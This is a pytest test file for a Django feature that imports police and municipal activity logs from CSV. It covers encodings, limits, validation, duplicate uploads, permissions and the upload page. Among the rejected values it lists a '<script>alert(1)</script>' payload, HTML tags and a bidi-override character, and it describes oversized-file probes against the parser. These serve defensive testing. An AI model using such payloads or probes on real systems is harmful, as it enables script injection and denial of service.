"""Bulk import of logs from a CSV file: read as Excel writes it, checked as the log form."""

import datetime
import time
import uuid
from types import SimpleNamespace

import pytest
import time_machine
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext, ngettext

from activities import csv_import, csv_import_views
from activities.csv_import import COLUMNS, MAX_ROWS, import_logs, parse_csv
from activities.models import ActivityLog, Responsible
from activities.services import record_log
from activities.spreadsheet import NOT_CSV
from municipalities.models import Role
from promises.fields import long_date
from promises.models import PeriodState
from tests import factories
from tests.staff import sign_in, staff_user

pytestmark = pytest.mark.django_db

TODAY = datetime.date(2026, 6, 15)
HEADER = "aktivitet_id;datum;antal;plats;sammanfattning;intern_anteckning"


@pytest.fixture
def world():
    """A kommunpolis in Vetlanda's local police area, and activities in and out of their reach."""
    period = factories.period("vetlanda")
    area = factories.local_police_area(municipalities=[period.municipality])
    other_period = factories.period("tranas")
    return SimpleNamespace(
        period=period,
        police=factories.activity(period, "Trafikkontroller", responsible=Responsible.POLICE),
        joint=factories.activity(period, "Trygghetsvandringar", responsible=Responsible.JOINT),
        municipal=factories.activity(
            period, "Föräldravandring", responsible=Responsible.MUNICIPALITY
        ),
        other_municipality=factories.activity(other_period, "Kontroller i Tranås"),
        user=staff_user("polis", role=Role.POLICE_OFFICER, local_police_area=area),
        area=area,
    )


def _csv(*rows: str, header: str = HEADER, delimiter: str = ";", encoding="utf-8") -> bytes:
    lines = [header, *rows]
    return "\r\n".join(line.replace(";", delimiter) for line in lines).encode(encoding)


def _import(world, data: bytes, *, key: uuid.UUID | None = None, user=None, **answer):
    return import_logs(
        data, user=user or world.user, today=TODAY, import_key=key or uuid.uuid4(), **answer
    )


# Reading the file


def test_semicolons_and_commas_read_to_the_same_rows():
    rows = ("12;2026-03-15;2;Storgatan;Kontroll;", "13;2026-03-16;;;;")
    semicolons = parse_csv(_csv(*rows))
    commas = parse_csv(_csv(*rows, delimiter=","))
    assert semicolons.error is None and commas.error is None
    assert semicolons.rows == commas.rows
    number, values = semicolons.rows[0]
    assert number == 2
    assert values == {
        "aktivitet_id": "12",
        "datum": "2026-03-15",
        "antal": "2",
        "plats": "Storgatan",
        "sammanfattning": "Kontroll",
        "intern_anteckning": "",
    }


def test_blank_lines_are_skipped_and_row_numbers_stay_those_of_the_file():
    data = _csv("", "12;2026-03-15;1;;;", ";;;;;", "13;2026-03-16;1;;;")
    assert [number for number, _ in parse_csv(data).rows] == [3, 5]


def test_quoted_values_may_hold_separators_and_line_breaks():
    data = _csv('12;2026-03-15;1;"Storgatan; norra delen";"Rad ett\nrad två";', "13;2026-03-16;;;;")
    parsed = parse_csv(data)
    assert parsed.rows[0][1]["plats"] == "Storgatan; norra delen"
    assert parsed.rows[0][1]["sammanfattning"] == "Rad ett\nrad två"
    # Row numbers count records, as a spreadsheet does, not physical lines.
    assert [number for number, _ in parsed.rows] == [2, 3]


@pytest.mark.parametrize(
    "encoding,prefix", [("utf-8", b""), ("utf-8", b"\xef\xbb\xbf"), ("cp1252", b"")]
)
def test_utf8_with_and_without_bom_and_windows_1252_read_alike(encoding, prefix):
    data = prefix + _csv("12;2026-03-15;1;Åsa Älvgård Östra;;", encoding=encoding)
    parsed = parse_csv(data)
    assert parsed.error is None
    assert parsed.rows[0][1]["plats"] == "Åsa Älvgård Östra"
    assert "aktivitet_id" in parsed.rows[0][1]


def test_header_names_ignore_case_spaces_and_order_and_optional_columns_may_be_left_out():
    parsed = parse_csv(_csv("2026-03-15;12", header=" Datum ; AKTIVITET_ID "))
    assert parsed.error is None
    assert parsed.rows == [(2, {"datum": "2026-03-15", "aktivitet_id": "12"})]


def test_a_missing_required_column_is_one_file_error_naming_it():
    parsed = parse_csv(_csv("12;1", header="aktivitet_id;antal"))
    assert parsed.rows == []
    assert "datum" in parsed.error
    assert "aktivitet_id" not in parsed.error


def test_unknown_and_doubled_columns_are_named_in_the_file_error():
    parsed = parse_csv(_csv("12;2026-03-15;x;y", header="aktivitet_id;datum;kommentar;datum"))
    assert "kommentar" in parsed.error
    assert parsed.error.count("datum") == 1


def test_a_header_of_thousands_of_columns_is_refused_at_once():
    # 100 000 names took 111 s (each counted against the whole header): a worker held minutes.
    header = ";".join(f"k{index}" for index in range(100_000))
    started = time.process_time()
    parsed = parse_csv(_csv("1", header=header))
    assert time.process_time() - started < 2
    assert parsed.error.startswith("Rubrikraden (rad 1) är fel: fler än 50 kolumner. ")
    # And what to do: the template's names on the first row, nothing above, no own columns.
    assert "ta bort rader ovanför den och egna kolumner" in parsed.error
    # A spreadsheet's empty columns at the margin are no names: such a header is read.
    parsed = parse_csv(_csv("12;2026-03-15", header="aktivitet_id;datum" + ";" * 200))
    assert parsed.error is None


def test_the_unknown_columns_named_are_the_first_ten():
    header = "aktivitet_id;datum;" + ";".join(f"extra{index}" for index in range(30))
    error = parse_csv(_csv("12;2026-03-15", header=header)).error
    assert "extra9 …" in error and "extra10" not in error


def test_a_value_beyond_the_header_is_an_error_of_that_row():
    parsed = parse_csv(
        _csv("12;2026-03-15", "13;2026-03-16;extra", "14;2026-03-17;;", header="aktivitet_id;datum")
    )
    assert [(error.row, error.column) for error in parsed.row_errors] == [(3, "")]


UNKNOWN_ENCODING = (
    "The file's character encoding was not recognised. Save the file as CSV in UTF-8 (in Excel: "
    "CSV UTF-8) or in Windows-1252 (Excel's ordinary CSV) and upload it again."
)


@pytest.mark.parametrize(
    "data,message",
    [
        (b"", "The file is empty."),
        (b"\r\n  \r\n", "The file is empty."),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10", NOT_CSV),
        (bytes(range(256)) * 4, NOT_CSV),
        (b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", NOT_CSV),
        (b"\x81\x8d\x8f\x90\x9d\xff\xfe", UNKNOWN_ENCODING),
        (b"\x1b[31m;\x07\r\n12;2026-03-15", NOT_CSV),
    ],
    ids=["empty", "blank", "png", "all-bytes", "xlsx", "undecodable", "control-characters"],
)
def test_empty_or_binary_files_are_a_file_error(data, message):
    parsed = parse_csv(data)
    assert parsed.error == gettext(message)
    assert parsed.rows == []


TOO_MANY_ROWS = _csv(*["12;2026-03-15;1;;;"] * (MAX_ROWS + 1))
TOO_LARGE = _csv(*["12;2026-03-15;1;;" + "x" * 1200 + ";"] * 900)


def test_more_than_the_maximum_rows_is_a_file_error():
    message = gettext("The file has more than %(max)s rows. Split it into smaller files.")
    assert parse_csv(TOO_MANY_ROWS).error == message % {"max": MAX_ROWS}
    assert parse_csv(_csv(*["12;2026-03-15;1;;;"] * MAX_ROWS)).error is None


def test_reading_stops_one_row_past_the_maximum(monkeypatch):
    """The security probe: 480,000 one-character rows (under 1 MB) were all read (2.3 s,
    ~200 MB) before the limit of 1,000 applied. Reading stops one row past it, with the same
    message."""
    read = []
    reader = csv_import.csv.reader

    def counting(*args, **kwargs):
        for record in reader(*args, **kwargs):
            read.append(record)
            yield record

    monkeypatch.setattr(csv_import.csv, "reader", counting)
    data = (HEADER + "\n").encode() + b"a\n" * 480_000
    assert len(data) < 1024 * 1024

    started = time.process_time()
    error = parse_csv(data).error

    assert error == "Filen har fler än 1000 rader. Dela upp den i mindre filer."
    assert len(read) == MAX_ROWS + 2  # the header, the rows allowed and one more
    assert time.process_time() - started < 0.5
    # A header found wrong is still told first, whatever follows it.
    assert parse_csv(b"aktivitet;datum\n" + b"a\n" * 480_000).error.startswith(
        "Rubrikraden (rad 1) är fel"
    )


def test_a_file_over_one_megabyte_is_a_file_error():
    assert len(TOO_LARGE) > 1024 * 1024
    assert parse_csv(TOO_LARGE).error == gettext("The file is larger than 1 MB. Split it up.")


# Importing


@pytest.mark.parametrize("delimiter", [";", ","])
def test_a_valid_file_saves_every_row_reported_by_the_user(world, delimiter):
    data = _csv(
        f"{world.police.pk};2026-03-15;3;Storgatan;Kontroll vid skolan;Lugnt",
        "",
        f"{world.joint.pk};2026-03-16;;;;",
        delimiter=delimiter,
    )
    result = _import(world, data)
    assert result.error_count == 0
    logs = ActivityLog.objects.order_by("date")
    assert [(log.activity, log.date, log.quantity) for log in logs] == [
        (world.police, datetime.date(2026, 3, 15), 3),
        (world.joint, datetime.date(2026, 3, 16), 1),
    ]
    assert {log.reported_by for log in logs} == {world.user}
    first = logs[0]
    assert (first.place, first.summary, first.internal_note) == (
        "Storgatan",
        "Kontroll vid skolan",
        "Lugnt",
    )
    assert [log.pk for log in result.saved] == [log.pk for log in logs]
    assert first.history.first().history_user == world.user


def test_a_row_whose_name_is_not_its_ids_activity_is_refused(world):
    """A tester copied a row, changed the name to "Fotpatrull i centrum" and not the id: the
    patrol was counted and published as a traffic check."""
    header = f"{HEADER};aktivitet_namn"
    data = _csv(
        f"{world.police.pk};2026-03-15;1;Badparken;Kvällspatrull;;Trygghetsvandringar",
        f"{world.joint.pk};2026-03-16;1;;;;  trygghetsvandringar ",  # case and blanks aside
        f"{world.joint.pk};2026-03-17;1;;;;",  # no name: the id alone
        header=header,
    )

    result = _import(world, data)

    assert [(e.row, e.column) for e in result.row_errors] == [(2, "aktivitet_namn")]
    assert "Namnet är inte namnet på aktivitet" in result.row_errors[0].message
    assert "Trafikkontroller" in result.row_errors[0].message
    assert not ActivityLog.objects.exists()


def test_a_row_whose_citizen_promise_is_not_its_ids_activitys_is_refused(world):
    """The same activity name is in several municipalities' promises: the template names each
    row's promise, and a row whose id is another promise's activity is refused."""
    promise = f"{world.period.place_name} {world.period.period_label}"
    typed = promise.replace("\u2013", "-").replace("ä", "a")  # as typed on a keyboard
    header = f"{HEADER};aktivitet_namn;medborgarlofte"
    data = _csv(
        f"{world.police.pk};2026-03-15;1;;;;;Eksjö 2025–2026",
        f"{world.police.pk};2026-03-16;1;;;;;{promise}",
        f"{world.joint.pk};2026-03-17;1;;;;;{typed}",
        f"{world.joint.pk};2026-03-18;1;;;;;",  # none given: the id alone
        header=header,
    )

    result = _import(world, data)

    assert [(e.row, e.column) for e in result.row_errors] == [(2, "medborgarlofte")]
    assert f"hör till medborgarlöftet {promise}" in result.row_errors[0].message
    assert not ActivityLog.objects.exists()


def test_windows_1252_text_is_saved_as_written(world):
    data = _csv(f"{world.police.pk};2026-03-15;1;Åby, Ärla och Örby;Kontroll;", encoding="cp1252")
    assert _import(world, data).error_count == 0
    assert ActivityLog.objects.get().place == "Åby, Ärla och Örby"


BAD_VALUES = [
    ("datum", "2026-06-16", "future date"),
    ("datum", "2025-12-31", "before the period"),
    ("datum", "15/3/2026", "not ISO"),
    ("datum", "2026-02-30", "no such day"),
    ("datum", "", "empty date"),
    ("antal", "0", "zero"),
    ("antal", "-3", "negative"),
    ("antal", "100001", "huge"),
    ("antal", "abc", "not a number"),
    ("antal", "1,5", "fraction"),
    ("aktivitet_id", "999999", "unknown activity"),
    ("aktivitet_id", "abc", "not an id"),
    ("aktivitet_id", "", "no activity"),
    ("aktivitet_id", "OTHER", "another municipality's activity"),
    ("aktivitet_id", "MUNICIPAL", "a municipal activity for the police"),
    ("sammanfattning", "<script>alert(1)</script>", "script"),
    ("sammanfattning", "Se <b>här</b>", "html"),
    ("plats", "Stor\x07gatan", "control character"),
    ("plats", "Stor\u202egatan", "bidi override"),
    ("plats", "x" * 151, "overlong place"),
    ("sammanfattning", "x" * 1001, "overlong summary"),
    ("intern_anteckning", "x" * 2001, "overlong note"),
]


@pytest.mark.parametrize("column,value,_label", BAD_VALUES, ids=[b[2] for b in BAD_VALUES])
def test_one_bad_row_saves_nothing_and_reports_exactly_that_row_and_column(
    world, column, value, _label
):
    value = {"OTHER": world.other_municipality.pk, "MUNICIPAL": world.municipal.pk}.get(
        value, value
    )
    bad = {
        "aktivitet_id": world.police.pk,
        "datum": "2026-03-16",
        "antal": "1",
        "plats": "",
        "sammanfattning": "",
        "intern_anteckning": "",
    }
    bad[column] = str(value).replace('"', '""')
    bad_row = ";".join(f'"{bad[name]}"' for name in HEADER.split(";"))
    good = f"{world.police.pk};2026-03-15;1;Storgatan;Kontroll;"
    result = _import(world, _csv(good, bad_row, good.replace("03-15", "03-17")))
    assert [(error.row, error.column) for error in result.row_errors] == [(3, column)]
    assert all(error.message for error in result.row_errors)
    assert result.saved == []
    assert not ActivityLog.objects.exists()


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("2026-02-30", "Det datumet finns inte: februari 2026 har bara 28 dagar."),
        ("2026-04-31", "Det datumet finns inte: april 2026 har bara 30 dagar."),
        ("2026-13-01", "Det datumet finns inte i kalendern."),
        ("2026-03-00", "Det datumet finns inte i kalendern."),
        # Written another way than the import reads: its own message, only the one format.
        ("15/3/2026", "Skriv datumet som ÅÅÅÅ-MM-DD, t.ex. 2026-03-15."),
        ("30/2/2026", "Skriv datumet som ÅÅÅÅ-MM-DD, t.ex. 2026-03-15."),
        ("2026-3-15", "Skriv datumet som ÅÅÅÅ-MM-DD, t.ex. 2026-03-15."),
        ("٢٠٢٦-٠٣-١٥", "Skriv datumet som ÅÅÅÅ-MM-DD, t.ex. 2026-03-15."),
    ],
)
def test_a_date_gets_one_message_that_never_offers_a_format_the_import_refuses(
    world, value, message
):
    with translation.override("sv"):
        result = _import(world, _csv(f"{world.police.pk};{value};1;;;"))
    assert [(e.row, e.column, e.message) for e in result.row_errors] == [(2, "datum", message)]
    assert "1/11/2026" not in message


def test_a_date_in_the_future_gets_the_log_forms_message(world):
    result = _import(world, _csv(f"{world.police.pk};2026-06-16;1;;;"))
    expected = gettext(
        "The date cannot be in the future: choose today (%(today)s) or an earlier day."
    ) % {"today": long_date(TODAY)}
    assert [e.message for e in result.row_errors] == [expected]


def test_errors_of_all_rows_are_reported_together(world):
    data = _csv(
        f"{world.police.pk};2026-06-30;0;;;",
        f"{world.police.pk};2026-03-15;1;;;",
        "999999;2026-03-15;1;;<i>x</i>;",
    )
    result = _import(world, data)
    assert [(e.row, e.column) for e in result.row_errors] == [
        (2, "datum"),
        (2, "antal"),
        (4, "aktivitet_id"),
        (4, "sammanfattning"),
    ]
    assert not ActivityLog.objects.exists()


def test_a_coordinator_cannot_import_a_police_activity(world):
    coordinator = staff_user(
        "samordnare", role=Role.COORDINATOR, municipality=world.period.municipality
    )
    data = _csv(f"{world.joint.pk};2026-03-15;1;;;", f"{world.police.pk};2026-03-15;1;;;")
    result = _import(world, data, user=coordinator)
    assert [(e.row, e.column) for e in result.row_errors] == [(3, "aktivitet_id")]
    assert not ActivityLog.objects.exists()


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\x00\x01\x02binary",
        _csv("12;1", header="aktivitet_id;antal"),
        _csv(),
        TOO_MANY_ROWS,
        TOO_LARGE,
    ],
    ids=["empty", "binary", "missing column", "header only", "too many rows", "too large"],
)
def test_a_file_error_saves_nothing(world, data):
    result = _import(world, data)
    assert len(result.file_errors) == 1
    assert not ActivityLog.objects.exists()


def test_the_same_upload_twice_saves_once(world):
    data = _csv(f"{world.police.pk};2026-03-15;1;;;", f"{world.joint.pk};2026-03-16;2;;;")
    key = uuid.uuid4()
    first = _import(world, data, key=key)
    second = _import(world, data, key=key)
    assert len(first.saved) == 2 and not first.already_imported
    assert second.already_imported and second.saved == [] and second.error_count == 0
    assert ActivityLog.objects.count() == 2
    # A new upload (a new key) of the same rows is asked about first, row by row.
    again = _import(world, data)
    assert again.saved == [] and [doubt.row for doubt in again.doubts] == [2, 3]
    assert "Samma som en logg som sparades" in again.doubts[0].message
    assert ActivityLog.objects.count() == 2
    # Answered: every row saved anew, or only the rows not saved before (none here).
    assert len(_import(world, data, ask=False, skip_repeated=True).saved) == 0
    assert len(_import(world, data, ask=False).saved) == 2
    assert ActivityLog.objects.count() == 4


def test_rows_repeated_in_the_file_or_as_the_template_proposes_them_are_asked_about(world):
    day = datetime.date(2026, 3, 15)
    repeated = _csv(
        f"{world.police.pk};{day};1;Torget;;",
        f"{world.joint.pk};{day};1;;;",
        f"{world.police.pk};{day};1;Torget;;",
    )
    result = _import(world, repeated)
    assert [(d.row, d.message) for d in result.doubts] == [(4, "Samma som rad 2 i filen.")]
    assert not ActivityLog.objects.exists()
    assert len(_import(world, repeated, ask=False, skip_repeated=True).saved) == 2

    # The template unchanged: every row dated today, quantity 1, nothing else.
    as_template = _csv(f"{world.police.pk};{TODAY};1;;;", f"{world.joint.pk};{TODAY};1;;;")
    whole_file = _import(world, as_template).doubts
    assert [(d.row, d.repeated) for d in whole_file] == [(None, False)]
    assert "som mallen föreslår den" in whole_file[0].message


def test_a_row_saved_by_a_parallel_upload_rolls_back_this_one(world):
    key = uuid.uuid4()
    data = _csv(f"{world.police.pk};2026-03-15;1;;;", f"{world.joint.pk};2026-03-16;1;;;")
    # The other upload's insert of row 3 committed after this one's check of row 2's key.
    factories.log(
        world.joint,
        datetime.date(2026, 3, 16),
        reported_by=world.user,
        idempotency_key=uuid.uuid5(key, "3"),
    )
    # (Answered: the upload asked first, as row 3 is the same as the other's log.)
    result = _import(world, data, key=key, ask=False)
    assert result.already_imported and result.saved == []
    assert ActivityLog.objects.count() == 1


def test_a_failure_while_saving_rolls_back_the_rows_saved_before_it(world, monkeypatch):
    calls = []

    def failing_record_log(**kwargs):
        calls.append(kwargs)
        if len(calls) == 2:
            raise RuntimeError("database gone")
        return record_log(**kwargs)

    monkeypatch.setattr(csv_import, "record_log", failing_record_log)
    data = _csv(f"{world.police.pk};2026-03-15;1;;;", f"{world.joint.pk};2026-03-16;1;;;")
    with pytest.raises(RuntimeError):
        _import(world, data)
    assert len(calls) == 2
    assert not ActivityLog.objects.exists()


def test_validating_many_rows_costs_a_fixed_number_of_queries(world, django_assert_max_num_queries):
    rows = [f"{world.police.pk};2026-03-15;1;Storgatan;Kontroll;"] * 199
    data = _csv(*rows, "999999;2026-03-15;1;;;")
    # The user's memberships, then the allowed activities, whatever the number of rows.
    with django_assert_max_num_queries(2):
        result = _import(world, data)
    assert [(e.row, e.column) for e in result.row_errors] == [(201, "aktivitet_id")]


def test_a_row_of_an_occasion_logged_through_the_form_is_asked_about(client, world):
    """The same walk logged on the form and kept in a spreadsheet with other words: the upload
    asks before it counts the occasion twice."""
    today = _in_force_period_today(world)
    sign_in(client, world.user)
    record_log(
        activity=world.police,
        user=world.user,
        idempotency_key=uuid.uuid4(),
        date=today,
        quantity=1,
        place="Stadsparken",
        summary="Trygghetsvandring med boende och fastighetsägare i Stadsparken.",
    )
    sheet = _csv(
        f"{world.police.pk};{today};1;stadsparken ;Trygghetsvandring med boende;",
        f"{world.police.pk};{today};1;Torget;Kontroll;",
    )

    asked = _post(client, world, sheet)

    assert asked.status_code == 200
    page = " ".join(asked.content.decode().split())
    assert "Rad 2: Samma aktivitet, dag och plats som en logg som sparades" in page
    assert "av Polis Testsson (med ett annat antal eller en annan sammanfattning)" in page
    assert ActivityLog.objects.count() == 1
    answer = {"upload": asked.context["upload"], "answer": "new"}
    assert client.post(reverse("activities:log_import"), answer).status_code == 302
    assert sorted(ActivityLog.objects.values_list("place", flat=True)) == ["Stadsparken", "Torget"]


def test_saving_many_rows_adds_only_the_inserts_per_row(world, django_assert_max_num_queries):
    rows = [f"{world.police.pk};2026-03-15;1;Storgatan;Kontroll {i};" for i in range(200)]
    # Per row: a savepoint, its activity checked under its lock (still open for logs), the log,
    # its history record, the lock on its activity, its progress sum and its activity's total,
    # the savepoint's release; once: the user's memberships, the allowed activities and the
    # logs the rows may repeat.
    with django_assert_max_num_queries(6 + 8 * 200):
        result = _import(world, _csv(*rows))
    assert len(result.saved) == 200


def test_a_file_whose_activity_is_cancelled_as_it_is_saved_saves_no_row(world, monkeypatch):
    """The rows were checked; the activity was cancelled before they were saved (a security
    probe: the logs counted for an activity the public page called cancelled)."""
    from activities import services
    from activities.models import ActivityStatus

    validate = csv_import._validate

    def cancelled_meanwhile(*args, **kwargs):
        checked = validate(*args, **kwargs)
        services.set_activity_status(world.police, world.user, ActivityStatus.CANCELLED, "Nej")
        return checked

    monkeypatch.setattr(csv_import, "_validate", cancelled_meanwhile)
    rows = [f"{world.joint.pk};2026-03-15;1;Torget;Vandring;", f"{world.police.pk};2026-03-15;1;;;"]

    result = _import(world, _csv(*rows))

    assert result.file_errors == ["Ladda om sidan och ladda upp filen igen."]
    assert not result.saved and not ActivityLog.objects.exists()


# The page


def _in_force_period_today(world):
    """The Vetlanda period moved to cover today, as the page uses the real date."""
    today = timezone.localdate()
    world.period.start_date = today - datetime.timedelta(days=30)
    world.period.end_date = today + datetime.timedelta(days=30)
    world.period.save()
    return today


def _post(client, world, data: bytes, key: str | None = None):
    upload = SimpleUploadedFile("loggar.csv", data, content_type="text/csv")
    return client.post(
        reverse("activities:log_import"),
        {"file": upload, "idempotency_key": key or str(uuid.uuid4())},
    )


def _post_template(client, world, data: bytes):
    """Upload the template unchanged: the page asks first; answered, every row is saved."""
    asked = _post(client, world, data)
    assert asked.status_code == 200
    assert asked.context["result"].doubts[0].row is None
    assert not ActivityLog.objects.exists()
    answer = {"upload": asked.context["upload"], "answer": "all"}
    return client.post(reverse("activities:log_import"), answer)


def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = client.get(reverse("activities:log_import"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_users_without_the_second_factor_are_sent_to_verify(client, world):
    sign_in(client, world.user, verified=False)
    response = client.get(reverse("activities:log_import"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:verify"))


def test_a_user_with_nothing_to_log_is_told_so_not_given_the_form(client, world):
    """A coordinator of another municipality's promise, not in force, had the upload form."""
    coordinator = staff_user(
        "samordnare.eksjo", role=Role.COORDINATOR, municipality=factories.municipality("eksjo")
    )
    sign_in(client, coordinator)
    page = client.get(reverse("activities:log_import")).content.decode()
    assert "Det finns ingen aktivitet som du kan logga." in page
    assert 'type="file"' not in page
    sign_in(client, world.user)
    assert 'type="file"' in client.get(reverse("activities:log_import")).content.decode()


def test_an_approver_may_not_import(client, world):
    approver = staff_user("granskare", role=Role.APPROVER, municipality=world.period.municipality)
    sign_in(client, approver)
    assert client.get(reverse("activities:log_import")).status_code == 403
    assert client.get(reverse("activities:log_import") + "?mall=1").status_code == 403
    response = _post(client, world, _csv(f"{world.joint.pk};2026-03-15;1;;;"))
    assert response.status_code == 403
    assert not ActivityLog.objects.exists()


def test_the_page_documents_the_columns_and_lists_the_activities_to_log(
    client, world, django_assert_max_num_queries
):
    for number in range(10):
        factories.activity(world.period, f"Kontroll {number}")
    sign_in(client, world.user)
    # Session, user, device, two for permissions, the user's memberships and the activities:
    # not one per activity.
    with django_assert_max_num_queries(7):
        response = client.get(reverse("activities:log_import"))
    assert response.status_code == 200
    assert uuid.UUID(str(response.context["form"].initial["idempotency_key"]))
    assert response.context["activities"][:2] == [world.police, world.joint]
    assert len(response.context["activities"]) == 12
    content = response.content.decode()
    for column in COLUMNS:
        assert f"<code>{column.name}</code>" in content
    assert f"<code>{world.police.pk}</code>" in content
    assert world.municipal.title not in content
    assert 'enctype="multipart/form-data"' in content


def test_a_valid_upload_saves_the_rows_and_redirects_with_a_message(client, world):
    today = _in_force_period_today(world)
    sign_in(client, world.user)
    data = _csv(f"{world.police.pk};{today};2;Torget;;", f"{world.joint.pk};{today};;;;")
    response = _post(client, world, data)
    assert response.status_code == 302
    assert response["Location"] == (
        f"{reverse('activities:log_list')}?fran={today}&till={today}&av={world.user.pk}"
    )
    assert ActivityLog.objects.filter(reported_by=world.user).count() == 2
    assert [str(m) for m in get_messages(response.wsgi_request)] == [
        ngettext("Imported %(n)s log.", "Imported %(n)s logs.", 2) % {"n": 2}
    ]


def test_an_imported_earlier_month_is_listed_after_the_upload(client, world):
    """The start page lists the latest ten logs and the log list the last seven days: an
    officer importing last month's logs saw none of them. The upload leads to the list of the
    days the file saved, logged by the officer, with every saved row on it."""
    today = _in_force_period_today(world)
    first, last = today - datetime.timedelta(days=25), today - datetime.timedelta(days=20)
    record_log(
        activity=world.police, user=world.user, idempotency_key=uuid.uuid4(), date=today, quantity=1
    )  # not from the file
    sign_in(client, world.user)
    rows = [f"{world.police.pk};{first};1;Torget;;", f"{world.joint.pk};{last};3;Parken;;"]
    response = _post(client, world, _csv(*rows))
    assert response.status_code == 302
    listed = client.get(response["Location"])
    assert listed.status_code == 200
    shown = {(log.activity_id, log.date, log.quantity) for log in listed.context["logs"]}
    assert shown == {(world.police.pk, first, 1), (world.joint.pk, last, 3)}


def test_a_double_submitted_upload_saves_once(client, world):
    today = _in_force_period_today(world)
    sign_in(client, world.user)
    data = _csv(f"{world.police.pk};{today};1;;;")
    key = str(uuid.uuid4())
    assert _post(client, world, data, key).status_code == 302
    assert _post(client, world, data, key).status_code == 302
    assert ActivityLog.objects.count() == 1


def test_an_upload_with_errors_shows_them_per_row_and_saves_nothing(client, world):
    today = _in_force_period_today(world)
    sign_in(client, world.user)
    data = _csv(f"{world.police.pk};{today};1;;;", f"{world.police.pk};{today};0;;<b>x</b>;")
    response = _post(client, world, data)
    assert response.status_code == 200
    result = response.context["result"]
    assert [(e.row, e.column) for e in result.row_errors] == [(3, "antal"), (3, "sammanfattning")]
    content = response.content.decode()
    assert "<code>antal</code>" in content
    assert 'class="error-summary"' in content
    assert not ActivityLog.objects.exists()


def test_an_unreadable_upload_is_a_file_error_on_the_page(client, world):
    sign_in(client, world.user)
    response = _post(client, world, b"\x00\x01junk")
    assert response.status_code == 200
    assert response.context["result"].file_errors == [str(NOT_CSV)]
    assert not ActivityLog.objects.exists()


def test_an_upload_without_a_file_is_a_form_error(client, world):
    sign_in(client, world.user)
    response = client.post(reverse("activities:log_import"), {"idempotency_key": str(uuid.uuid4())})
    assert response.status_code == 200
    assert "file" in response.context["form"].errors


def test_the_template_lists_only_the_users_activities_and_imports_as_it_is(client, world):
    today = _in_force_period_today(world)
    draft = factories.period("vetlanda", state=PeriodState.DRAFT)
    factories.activity(draft, "Utkast")
    sign_in(client, world.user)
    response = client.get(reverse("activities:log_import") + "?mall=1")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response.content.startswith(b"\xef\xbb\xbf")
    parsed = parse_csv(response.content)
    assert parsed.error is None
    assert [values["aktivitet_id"] for _, values in parsed.rows] == [
        str(world.police.pk),
        str(world.joint.pk),
    ]
    assert {values["datum"] for _, values in parsed.rows} == {today.isoformat()}
    assert {values["antal"] for _, values in parsed.rows} == {"1"}
    assert _post_template(client, world, response.content).status_code == 302
    assert ActivityLog.objects.count() == 2


# Hardening: one encoding per file, strict quoting, files with nothing in them

BROKEN_UTF8 = (
    "The file is in UTF-8 but has an invalid character on line %(line)s. Save it again as UTF-8 "
    "(in Excel: CSV UTF-8) and upload it again."
)


@pytest.mark.parametrize(
    "data",
    [
        "a;plats\r\n1;Tranås torg".encode(),
        b"\xef\xbb\xbf" + "a;plats\r\n1;Tranås torg".encode(),
        "a;plats\r\n1;Tranås torg".encode("cp1252"),
    ],
    ids=["utf-8", "utf-8 with BOM", "windows-1252"],
)
def test_decode_reads_utf8_with_or_without_bom_and_swedish_windows_1252(data):
    assert csv_import.decode(data) == "a;plats\r\n1;Tranås torg"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be"])
def test_a_file_saved_as_unicode_by_notepad_reads_as_its_utf8_twin(encoding):
    # Notepad's "Unicode" is UTF-16 with a byte order mark: every other byte a NUL, which
    # without the mark means a binary file.
    text = "aktivitet_id;datum;plats\r\n12;2026-03-15;Tranås torg\r\n"
    data = (b"\xfe\xff" if encoding == "utf-16-be" else b"") + text.encode(encoding)
    assert data.startswith((b"\xff\xfe", b"\xfe\xff"))
    assert parse_csv(data) == parse_csv(text.encode())
    assert parse_csv(data).rows[0][1]["plats"] == "Tranås torg"


def test_a_value_longer_than_the_csv_modules_field_limit_is_too_long_not_a_quote_error():
    long = "x" * 140_000
    parsed = parse_csv(_csv(f"12;2026-03-15;{long}", header="aktivitet_id;datum;sammanfattning"))
    assert parsed.error is None  # the file is read; the value is the row's error
    assert parsed.rows[0][1]["sammanfattning"] == long


def test_decode_keeps_windows_1252_punctuation_as_excel_writes_it():
    text = "plats\r\n”Ärla” – 5 € … ‘Öster’ • 20 °C, § 3, ½ — é"
    assert csv_import.decode(text.encode("cp1252")) == text


@pytest.mark.parametrize(
    "data,line",
    [
        ("a;plats\r\n1;Tranås torg\r\n2;Storg".encode() + b"\xe5tan", 3),
        ("a;plats\r\n1;Storgatan\r\n2;Tranås".encode() + b"\xff", 3),
        (b"\xef\xbb\xbfa;plats\r\n1;Storg\xe5tan", 2),
        ("a;plats\n1;Tranås\n2;x\n3;".encode() + b"\x80", 4),
    ],
    ids=["lone latin-1 byte", "0xff", "BOM and a latin-1 byte", "stray continuation byte"],
)
def test_decode_refuses_utf8_with_a_bad_byte_and_names_its_line(data, line):
    with pytest.raises(csv_import.UnreadableFile) as refused:
        csv_import.decode(data)
    assert str(refused.value) == gettext(BROKEN_UTF8) % {"line": line}


@pytest.mark.parametrize(
    "data",
    [
        "aktivitet_id;plats\r\n12;テスト".encode("shift_jis"),
        "aktivitet_id;plats\r\n12;東京駅の前".encode("shift_jis"),
        b"aktivitet_id;plats\r\n12;\x81\x8d",  # bytes Windows-1252 leaves undefined
        "aktivitet_id;plats\r\n12;Žœ™‰".encode("cp1252"),
    ],
    ids=["shift-jis katakana", "shift-jis kanji", "undefined in windows-1252", "odd symbols"],
)
def test_decode_refuses_text_that_is_neither_utf8_nor_swedish_windows_1252(data):
    with pytest.raises(csv_import.UnreadableFile) as refused:
        csv_import.decode(data)
    assert str(refused.value) == gettext(UNKNOWN_ENCODING)
    assert "UTF-8" in str(refused.value) and "Windows-1252" in str(refused.value)


